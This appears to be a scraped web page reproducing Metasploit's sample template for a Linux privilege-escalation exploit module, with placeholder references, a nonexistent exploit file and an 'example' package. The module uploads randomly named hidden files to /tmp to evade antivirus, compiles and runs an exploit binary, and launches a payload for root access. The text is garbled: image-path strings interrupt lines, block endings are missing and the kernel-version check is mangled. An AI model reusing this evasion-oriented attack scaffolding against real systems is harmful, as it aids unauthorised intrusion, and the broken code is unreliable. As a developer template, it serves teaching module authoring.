Metasploit Sample Linux Privilege Escalation Exploit

This Metasploit exploit module illustrates how a vulnerability could be exploited in a linux command for privilege escalation.

MD5 | 484a242e6e523fab95eb0bf3936e9709

# This module requires Metasploit:
# Current source:

# This exploit sample shows how an exploit module could be written to exploit
# a bug in a command on a linuxcomputer for priv esc.
class MetasploitModule < Msf::Exploit::Remote
Rank = NormalRanking

include Msf::Post::Linux::Priv
include Msf::Post::Linux::System
include Msf::Post::Linux::Kernel
include Msf::Post::File
include Msf::Exploit::EXE
include Msf::Exploit::FileDropper

def initialize(info = {})
# The Name should be just like the line of a Git commit - software name,
# vuln type, class. Preferably apply
# some search optimization so people can actually find the module.# We encourage consistency between module name and file name.
'Name' => 'Sample Linux Priv Esc',
'Description' => %q(
This exploit module illustrates how a vulnerability could be exploited
in an linux command for priv esc.
'License' => MSF_LICENSE,
# The place to add your name/handle and email. Twitter and other contact info isn't handled here.
# Add reference to additional authors, like those creating original proof of concepts or
# reference materials.
# It is also common to comment in who did what (PoC vs metasploit module, etc)
'Author' =>
'h00die <[email protected]>', # msf module
'researcher' # original PoC, analysis
'Platform' => [ 'linux' ],
# from underlying architecture of the system. typically ARCH_X64 or ARCH_X86, but the exploit
# may only apply to say ARCH_PPC or something else, where a specific arch is required.
# A full list is available in lib/msf/core/payload/uuid.rb
'Arch' => [ ARCH_X86, ARCH_X64 ],
# What types of sessions we can use this module in conjunction with. Most modules use libraries
# which work on shell andmeterpreter, but there may be a nuance between one of them, so best to
# test both to ensure compatibility.
'SessionTypes' => [ 'shell', 'meterpreter' ],
'Targets' => [[ 'Auto', {} ]],
# from lib/msf/core/module/privileged, denotes if this requires or gives privileged access
# since privilege escalation modules typically result in elevated privileges, this is
# generally set to true
'Privileged' => true,
'References' =>
[ 'OSVDB', '12345' ],
[ 'EDB', '12345' ],
[ 'URL', ''],
[ 'CVE', '1978-1234']
'DisclosureDate' => "Nov 29 2019",
# Note that DefaultTarget refers to the index of an item in Targets, rather than name.
# It's generally easiest just to put the default at the beginning of the list and skip this
# entirely.'DefaultTarget' => 0
# We typically drop a pre-compiled exploit to disk and run it, however theoption
# is left for the user to gcc it themselves if there is an add OS or other dependency
register_options ['COMPILE', [ true, 'Compile on target', 'Auto', %w[Auto True False] ])
# force exploit is used to bypass the check command results
register_advanced_options ['ForceExploit', [ false, 'Override check result', false ]),'WritableDir', [ true, 'A directory where we can write files', '/tmp' ])


# Simplify pulling the writable directory variable
def base_dir

# Simplify and standardize uploading a file
def upload(path, data)
print_status "Writing '#{path}' (#{data.size} bytes) ..."
write_file path, data

# Simplify uploading and chmoding a file
def upload_and_chmodx(path, data)
upload path, data
chmod path
register_file_for_cleanup path

# Simplify uploading and compiling a file
def upload_and_compile(path, data, gcc_args='')
upload "#{path}.c", datagcc_cmd = "gcc -o #{path} #{path}.c"
if session.type.eql? 'shell'
gcc_cmd = "PATH=$PATH:/usr/bin/ #{gcc_cmd}"

if gcc_args.to_s.blank?
gcc_cmd << " #{gcc_args}"

output = cmd_exec gcc_cmd

unless output.blank?
print_error output
fail_with Failure::Unknown, "#{path}.c failed to compile"

register_file_for_cleanup path
chmod path

# Pull the exploit binary or file (.c typically) from our system
def exploit_data(file)
::File.binread ::File.join(Msf::Config.data_directory, 'exploits', 'DOES_NOT_EXIST', file)

# If we're going to live compile on the system, check gcc is installed
def live_compile?
return false unless datastore['COMPILE'].eql?('Auto') || datastore['COMPILE'].eql?('True')

if has_gcc?
vprint_good 'gcc is installed'
return trueunless datastore['COMPILE'].eql? 'Auto'
fail_with Failure::BadConfig, 'gcc is not installed. Compiling will fail.'

def check
# Check the kernel version to see if its in a vulnerable range
release = kernel_release
if'-').first) >'4.14.11') ||'-').first) <'4.0')
vprint_error "Kernel version #{release} is not vulnerable"
return CheckCode::Safe
vprint_good "Kernel version #{release} appears to be vulnerable"# Check the app is installed and the version, debian based example
package = cmd_exec('dpkg -l example | grep \'^ii\'')
if package && package.include?('1:2015.3.14AR.1-1build1')
print_good("Vulnerable app version #{package} detected")

# The exploit method drops a payload file to the system, then either compiles and runs
# or just runs the exploit on the system.
def exploit
# First check the system is vulnerable, or the user wants to run regardless
unless check == CheckCode::Appears
unless datastore['ForceExploit']
fail_with Failure::NotVulnerable, 'Target is not vulnerable. Set ForceExploit to override.'print_warning 'Target does not appear to be vulnerable'

# Check if we're already root
if is_root?
unless datastore['ForceExploit']
fail_with Failure::BadConfig, 'Session already has root privileges. Set ForceExploit to override'

# Make sure we can write our exploit and payload to the remote system
unless writable? base_dir
fail_with Failure::BadConfig, "#{base_dir} is not writable"

# Upload exploit executable, writing to a random name so AV doesn't have too easy a job
executable_name = ".#{rand_text_alphanumeric(5..10)}"
executable_path = "#{base_dir}/#{executable_name}"
if live_compile?
vprint_status 'Live compilingexploit on system...'
upload_and_compile executable_path, strip_comments(exploit_data('example.c'))
rm_f "#{executable_path}.c"
vprint_status 'Dropping pre-compiled exploit on system...'
upload_and_chmodx executable_path, exploit_data('example')

# Upload payload executable
payload_path = "#{base_dir}/.#{rand_text_alphanumeric(5..10)}"
upload_and_chmodx payload_path, generate_payload_exe

# Launch exploit with a timeout. We also have a vprint_status so if the user wants all the
# output from the exploit being run, they can optionally see ittimeout = 30
print_status "Launching exploit..."
output = cmd_exec "echo '#{payload_path} & exit' | #{executable_path}", nil, timeoutoutput.each_line { |line|vprint_status line.chomp }

Related Posts